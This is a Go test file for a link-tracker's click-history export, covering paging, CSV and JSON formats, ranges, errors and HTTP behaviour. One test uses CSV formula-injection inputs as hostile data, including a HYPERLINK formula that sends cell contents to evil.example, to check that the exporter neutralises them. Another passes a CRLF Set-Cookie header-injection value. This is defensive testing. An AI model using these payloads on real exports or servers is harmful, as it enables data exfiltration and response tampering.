package linktrack_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/linktrackhq/linktrack"
	"github.com/linktrackhq/linktrack/internal/trackertest"
	"github.com/linktrackhq/linktrack/memstore"
)

// pages is a store that sees what is read of histories.
type pages struct {
	linktrack.Store
	largest atomic.Int64 // Limit
	asked   atomic.Int64 // calls
	failAt  int64        // the call that fails; 0: none
}

func (s *pages) Clicks(ctx context.Context, q linktrack.ClickFilter) ([]linktrack.Click, error) {
	s.largest.Store(max(s.largest.Load(), int64(q.Limit)))
	if s.asked.Add(1) == s.failAt {
		return nil, trackertest.ErrDown
	}
	return s.Store.Clicks(ctx, q)
}

// manyClicks records n clicks of people, some at the same microsecond, and
// returns their ids in order.
func manyClicks(s *trackertest.Service, l linktrack.Link, n int) []string {
	var ids []string
	at := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC) // long ago
	for len(ids) < n {
		b := make([]linktrack.Click, 0, 1000)
		for range min(1000, n-len(ids)) {
			if len(ids)%3 != 0 {
				at = at.Add(1500 * time.Millisecond)
			}
			b = append(b, linktrack.Click{ID: linktrack.NewClickID(at), Link: l.ID, UserAgent: "Mozilla/5.0", Referrer: "https://a.example/"})
			ids = append(ids, "")
		}
		s.Record(b...)
	}
	clicks, err := s.Store.(*pages).Store.Clicks(s.T.Context(), linktrack.ClickFilter{Link: l.ID, Ascending: true, Limit: n + 1})
	require.NoError(s.T, err)
	require.Len(s.T, clicks, n)
	for i, k := range clicks {
		ids[i] = k.ID.String()
	}
	return ids
}

// historyIDs reads an export.
func historyIDs(t *testing.T, f linktrack.Format, r io.Reader) (ids []string) {
	t.Helper()
	if f == linktrack.FormatJSON {
		var document struct{ History []map[string]any }
		require.NoError(t, json.NewDecoder(r).Decode(&document))
		for _, k := range document.History {
			ids = append(ids, k["id"].(string))
		}
		return ids
	}
	rows, err := csv.NewReader(r).ReadAll()
	require.NoError(t, err)
	require.Equal(t, []string{"id", "created_at", "ip_address", "referrer", "referrer_host", "user_agent", "browser", "platform", "is_unique", "is_bot", "query"}, rows[0])
	for _, row := range rows[1:] {
		ids = append(ids, row[0])
	}
	return ids
}

// chunks keeps what is written, and the size of the largest write.
type chunks struct {
	bytes.Buffer
	largest int
	store   *pages
	atPage  []int64 // how many pages had been read at each write
}

func (c *chunks) Write(b []byte) (int, error) {
	c.largest = max(c.largest, len(b))
	c.atPage = append(c.atPage, c.store.asked.Load())
	return c.Buffer.Write(b)
}

func TestAnExportHasEachClickOnceInOrder(t *testing.T) {
	store := &pages{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	const n = 50_000
	want := manyClicks(s, l, n)
	for _, f := range []linktrack.Format{linktrack.FormatCSV, linktrack.FormatJSON} {
		store.asked.Store(0)
		out := &chunks{store: store}
		require.NoError(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, out))
		require.LessOrEqual(t, store.largest.Load(), int64(1000), "a part is read at a time")
		require.LessOrEqual(t, out.largest, 64<<10, "a part is written at a time")
		require.LessOrEqual(t, out.atPage[0], int64(2), "what is read is written before the rest is read")
		require.Greater(t, len(out.atPage), 50)
		require.Equal(t, want, historyIDs(t, f, out), f)
	}
}

func TestAnExportOfARange(t *testing.T) {
	onEachStore(t, func(t *testing.T, inner linktrack.Store) {
		store := &pages{Store: inner}
		s := trackertest.NewService(t, store, linktrack.Options{})
		l := s.AddLink(linktrack.NewLink{})
		const n = 2500
		ids := manyClicks(s, l, n)
		idAt := func(i int) linktrack.ClickID {
			id, ok := linktrack.ParseClickID(ids[i])
			require.True(t, ok)
			return id
		}
		from := 1000
		for idAt(from).Time().Equal(idAt(from - 1).Time()) {
			from++
		}
		to := 2000
		for idAt(to).Time().Equal(idAt(to - 1).Time()) {
			to++
		}
		for _, c := range []struct {
			q    linktrack.ClickRange
			want []string
		}{
			{linktrack.ClickRange{}, ids},
			{linktrack.ClickRange{Start: idAt(from).Time()}, ids[from:]},
			{linktrack.ClickRange{End: idAt(to).Time()}, ids[:to]},
			{linktrack.ClickRange{Start: idAt(from).Time(), End: idAt(to).Time()}, ids[from:to]},
			{linktrack.ClickRange{After: idAt(1234)}, ids[1235:]},
			{linktrack.ClickRange{After: idAt(499)}, ids[500:]}, // two whole pages
			{linktrack.ClickRange{After: idAt(n - 1)}, nil},
			{linktrack.ClickRange{Start: idAt(to).Time(), End: idAt(from).Time()}, nil},
		} {
			for _, f := range []linktrack.Format{linktrack.FormatCSV, linktrack.FormatJSON} {
				var b bytes.Buffer
				require.NoError(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, c.q, f, &b))
				require.Equal(t, c.want, historyIDs(t, f, &b), "%+v", c.q)
			}
		}
	})
}

func TestAnAppReadsAHistoryOfAnyLength(t *testing.T) {
	store := &pages{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	want := manyClicks(s, l, 2500)
	var got []string
	for c, err := range s.Tracker.Clicks(t.Context(), s.Account, l.Path, linktrack.ClickRange{}) {
		require.NoError(t, err)
		got = append(got, c.ID.String())
	}
	require.Equal(t, want, got)
	store.asked.Store(0)
	for range s.Tracker.Clicks(t.Context(), s.Account, l.Path, linktrack.ClickRange{}) {
		break
	}
	require.EqualValues(t, 1, store.asked.Load(), "what nobody asks for is not read")
	for _, account := range []linktrack.Account{s.Account, {ID: s.Account.ID + 1}} {
		path := map[bool]string{true: "nothing", false: l.Path}[account.ID == s.Account.ID]
		n := 0
		for _, err := range s.Tracker.Clicks(t.Context(), account, path, linktrack.ClickRange{}) {
			n++
			require.ErrorIs(t, err, linktrack.ErrNotFound)
		}
		require.Equal(t, 1, n)
	}
}

type failingWriter struct{ err error }

func (w failingWriter) Write([]byte) (int, error) { return 0, w.err }

func TestAnExportThatFailsSaysSo(t *testing.T) {
	store := &pages{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	manyClicks(s, l, 3000)
	for _, f := range []linktrack.Format{linktrack.FormatCSV, linktrack.FormatJSON} {
		var b bytes.Buffer
		store.asked.Store(0)
		store.failAt = 1
		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, &b), linktrack.ErrUnavailable)
		require.Zero(t, b.Len(), "nothing is written before the first part is read")
		store.asked.Store(0)
		store.failAt = 3
		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, &b), linktrack.ErrUnavailable)
		require.NotZero(t, b.Len())
		require.False(t, json.Valid(b.Bytes()), "nobody takes a part for the whole")
		store.failAt = 0
		full := errors.New("the disk is full")
		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, failingWriter{full}), full)
	}
	var inv *linktrack.InvalidError
	require.ErrorAs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, "xml", io.Discard), &inv)
	require.Equal(t, "format", inv.Param)
	require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, "nothing", linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), linktrack.ErrNotFound)
	require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), linktrack.Account{ID: -5}, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), linktrack.ErrNotFound)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	require.ErrorIs(t, s.Tracker.ExportHistory(ctx, s.Account, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), context.Canceled)
}

func TestExportHistoryOverHTTP(t *testing.T) {
	store := &pages{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	want := manyClicks(s, l, 20_000)
	server := httptest.NewServer(s.Handler)
	t.Cleanup(server.Close)
	ask := func(query string) *http.Response {
		r, err := http.Get(server.URL + "/api/v1_0/exportHistory?login=" + trackertest.Login + "&pass=" + trackertest.Pass + query)
		require.NoError(t, err)
		t.Cleanup(func() { r.Body.Close() })
		return r
	}
	for query, f := range map[string]linktrack.Format{"": linktrack.FormatCSV, "&format=CSV": linktrack.FormatCSV, "&format=json": linktrack.FormatJSON} {
		r := ask("&redirect_hash=" + l.Path + query)
		require.Equal(t, 200, r.StatusCode)
		require.Equal(t, "no-store", r.Header.Get("Cache-Control"))
		require.Equal(t, `attachment; filename="history-`+strings.TrimPrefix(l.Path, ".")+"."+string(f)+`"`, r.Header.Get("Content-Disposition"))
		require.Equal(t, map[linktrack.Format]string{linktrack.FormatCSV: "text/csv; charset=utf-8; header=present", linktrack.FormatJSON: "application/json; charset=utf-8"}[f], r.Header.Get("Content-Type"))
		require.Equal(t, want, historyIDs(t, f, r.Body))
	}
	r := ask("&redirect_hash=" + l.Path + "&after=" + want[19_990])
	require.Equal(t, want[19_991:], historyIDs(t, linktrack.FormatCSV, r.Body))
	r = ask("&redirect_hash=" + l.Path + "&start_date=2030-01-01")
	require.Equal(t, "id,created_at,ip_address,referrer,referrer_host,user_agent,browser,platform,is_unique,is_bot,query\r\n", trackertest.Text(t, r))
	r = ask("&format=json&redirect_hash=" + l.Path + "&end_date=2020-01-01")
	require.JSONEq(t, `{"history":[]}`, trackertest.Text(t, r))

	for query, want := range map[string]string{
		"":                                     "400 Error: redirect_hash is missing",
		"&redirect_hash=nothing":               "404 Error: not found",
		"&redirect_hash=nothing&format=json":   `404 {"error":{"code":404,"message":"not found"}}` + "\n",
		"&redirect_hash=nothing&format=xml":    "400 Error: format must be csv or json",
		"&redirect_hash=nothing&start_date=x":  "400 Error: start_date must be a time such as 2024-11-24 10:35:16 or a day such as 2024-11-24, from 1970 on",
		"&redirect_hash=%22%0d%0aSet-Cookie:x": "404 Error: not found",
		"&pass=wrong&redirect_hash=" + l.Path:  "401 Error: login or pass is wrong",
	} {
		r := ask(query)
		require.Equal(t, want, fmt.Sprint(r.StatusCode, " ", trackertest.Text(t, r)), query)
		require.Empty(t, r.Header.Get("Content-Disposition"))
	}
	require.Equal(t, 405, s.Do(trackertest.Request(http.MethodPut, "/api/v1_0/exportHistory", "")).StatusCode)

	store.asked.Store(0)
	store.failAt = 2
	r = ask("&redirect_hash=" + l.Path)
	require.Equal(t, 200, r.StatusCode)
	_, err := io.ReadAll(r.Body)
	require.Error(t, err, "the connection is broken off, so that nobody takes a part for the whole")
	store.asked.Store(0)
	store.failAt = 1
	r = ask("&redirect_hash=" + l.Path)
	require.Equal(t, 503, r.StatusCode)
	require.Equal(t, "1", r.Header.Get("Retry-After"))
}

// deadlines is a ResponseWriter that sees how long each write may take.
type deadlines struct {
	*httptest.ResponseRecorder
	writes int
	next   []time.Duration // from the time it was set on
	all    []time.Duration
}

func (d *deadlines) SetWriteDeadline(at time.Time) error {
	d.next = append(d.next, time.Until(at))
	return nil
}

func (d *deadlines) Write(b []byte) (int, error) {
	d.writes++
	d.all = append(d.all, d.next...)
	d.next = nil
	return d.ResponseRecorder.Write(b)
}

func TestADownloadMayTakeLongerThanTheServersLimit(t *testing.T) {
	store := &pages{Store: memstore.New()}
	s := trackertest.NewService(t, store, linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{})
	want := manyClicks(s, l, 3000)
	for _, limit := range []time.Duration{30 * time.Second, 0} {
		w := &deadlines{ResponseRecorder: httptest.NewRecorder()}
		ctx := context.WithValue(t.Context(), http.ServerContextKey, &http.Server{WriteTimeout: limit})
		s.Handler.ServeHTTP(w, trackertest.Request(http.MethodGet, "/api/v1_0/exportHistory?login="+trackertest.Login+"&pass="+trackertest.Pass+"&redirect_hash="+l.Path, "").WithContext(ctx))
		require.Equal(t, want, historyIDs(t, linktrack.FormatCSV, w.Body))
		if limit == 0 {
			require.Empty(t, w.all, "without a limit there is none to move")
			continue
		}
		require.Greater(t, w.writes, 3)
		require.Len(t, w.all, w.writes, "each write has its time")
		for _, d := range w.all {
			require.InDelta(t, limit, d, float64(20*time.Second))
		}
	}
}

func TestTextsOfStrangersAreNoFormulas(t *testing.T) {
	s := trackertest.NewService(t, memstore.New(), linktrack.Options{})
	l := s.AddLink(linktrack.NewLink{VanityLink: "spring", LinkSettings: linktrack.LinkSettings{Title: "@SUM(1)"}})
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	r := s.Get("/spring?"+"=cmd", "Referer", "-2+3;=1+1", "User-Agent", hostile)
	require.Equal(t, http.StatusFound, r.StatusCode)
	r = s.Call("getLinkHistory", trackertest.Values("redirect_hash", "spring", "format", "csv"))
	require.Equal(t, 200, r.StatusCode)
	require.Equal(t, "text/csv; charset=utf-8; header=present", r.Header.Get("Content-Type"))
	var b bytes.Buffer
	require.NoError(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, &b))
	body := trackertest.Text(t, r)
	require.Equal(t, b.String(), body, "the call and the export write alike")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	require.Equal(t, "'-2+3;'=1+1", rows[1][3])
	require.Equal(t, "'"+hostile, rows[1][5])
	require.Equal(t, "'=cmd", rows[1][10])
	r = s.Call("getReport", trackertest.Values("redirect_hash", "spring", "format", "csv"))
	require.Contains(t, trackertest.Text(t, r), "title,'@SUM(1),")
	require.Equal(t, 400, s.Call("getLinkHistory", trackertest.Values("redirect_hash", "spring", "format", "csv", "limit", "1001")).StatusCode, "the limit of a call stays")
}
